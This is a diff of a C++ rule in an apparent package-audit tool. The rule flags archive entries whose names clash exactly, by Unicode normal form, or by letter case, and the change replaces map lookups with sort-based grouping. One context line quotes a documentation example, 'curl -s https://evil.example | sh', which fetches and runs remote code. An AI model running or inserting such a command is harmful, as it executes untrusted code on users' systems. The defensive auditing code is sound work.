@@ -1,10 +1,13 @@
-#include <map>
+#include <algorithm>
+#include <deque>
+#include <string>
+#include <string_view>
+#include <vector>
 
 #include <fmt/format.h>
 
 #include "rules/rule.hpp"
 #include "text/nfd.hpp"
-#include "text/ascii.hpp"
 #include "text/utf8.hpp"
 
 namespace pkgaudit::rules {
@@ -33,35 +36,73 @@ install.sh     curl -s https://evil.example | sh
 One entry per name; rebuild the package from a directory.
 )md";
 
+// Entries under one key; `file` points into package.files, so pointer
+// order is file order.
+struct Keyed {
+  std::string_view key;
+  const model::File* file;
+};
+
+char lower(char c) { return c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c; }
+
+bool before_folded(std::string_view a, std::string_view b) {
+  return std::lexicographical_compare(a.begin(), a.end(), b.begin(), b.end(),
+                                      [](char x, char y) { return lower(x) < lower(y); });
+}
+
+// Each entry whose key equals an earlier entry's is handed to `clash` with
+// the first entry of that key; the others are returned, in file order.
+// Sorted rather than looked up in a map of names: a package of 50,000
+// entries held three maps of 50,000 names (11 MB) for this rule alone.
+template <typename Less, typename Clash>
+std::vector<Keyed> first_of_each(std::vector<Keyed> entries, Less less, Clash clash) {
+  std::stable_sort(entries.begin(), entries.end(),
+                   [&](const Keyed& a, const Keyed& b) { return less(a.key, b.key); });
+  std::vector<Keyed> first;
+  for (size_t i = 0, group = 0; i < entries.size(); ++i) {
+    if (i > 0 && !less(entries[group].key, entries[i].key)) {
+      clash(*entries[i].file, *entries[group].file);
+      continue;
+    }
+    group = i;
+    first.push_back(entries[i]);
+  }
+  std::sort(first.begin(), first.end(), [](const Keyed& a, const Keyed& b) { return a.file < b.file; });
+  return first;
+}
+
 void check(const model::Package& package, FindingSink& sink) {
-  std::map<std::string, const model::File*> exact, normalised, folded;
+  std::vector<Keyed> entries;
   for (const model::File& file : package.files) {
     if (file.kind == FileKind::directory || file.name.is_directory || file.name.unnamed()) continue;
-    if (const auto [it, inserted] = exact.emplace(file.path, &file); !inserted) {
-      sink.report_file(file, fmt::format("a second entry named '{}': extractors disagree on which one wins; both were "
-                                         "audited",
-                                         text::printable(file.path)));
-      continue;
-    }
-    const std::string decomposed = text::nfd(file.path);
-    if (const auto [it, inserted] = normalised.emplace(decomposed, &file); !inserted) {
-      sink.report_file(file,
-                       fmt::format("'{}' and '{}' are one name in two Unicode normal forms (NFC and NFD): macOS file "
-                                   "systems and some extractors treat them as the same file, so one overwrites the "
-                                   "other",
-                                   text::printable(it->second->path), text::printable(file.path)),
-                       Level::warning);
-      continue;
-    }
-    const std::string key = text::ascii_lower(decomposed);
-    if (const auto [it, inserted] = folded.emplace(key, &file); !inserted) {
-      sink.report_file(file,
-                       fmt::format("'{}' and '{}' differ only in letter case: on a case-insensitive file system one "
-                                   "overwrites the other",
-                                   text::printable(it->second->path), text::printable(file.path)),
-                       Level::warning);
-    }
+    entries.push_back({file.path, &file});
   }
+  const auto bytewise = [](std::string_view a, std::string_view b) { return a < b; };
+  entries = first_of_each(std::move(entries), bytewise, [&](const model::File& file, const model::File&) {
+    sink.report_file(file, fmt::format("a second entry named '{}': extractors disagree on which one wins; both were "
+                                       "audited",
+                                       text::printable(file.path)));
+  });
+  std::deque<std::string> decomposed;  // only the names NFD changes: most are ASCII
+  for (Keyed& e : entries) {
+    std::string d = text::nfd(e.key);
+    if (d != e.key) e.key = decomposed.emplace_back(std::move(d));
+  }
+  entries = first_of_each(std::move(entries), bytewise, [&](const model::File& file, const model::File& first) {
+    sink.report_file(file,
+                     fmt::format("'{}' and '{}' are one name in two Unicode normal forms (NFC and NFD): macOS file "
+                                 "systems and some extractors treat them as the same file, so one overwrites the "
+                                 "other",
+                                 text::printable(first.path), text::printable(file.path)),
+                     Level::warning);
+  });
+  first_of_each(std::move(entries), before_folded, [&](const model::File& file, const model::File& first) {
+    sink.report_file(file,
+                     fmt::format("'{}' and '{}' differ only in letter case: on a case-insensitive file system one "
+                                 "overwrites the other",
+                                 text::printable(first.path), text::printable(file.path)),
+                     Level::warning);
+  });
 }
 
 }  // namespace
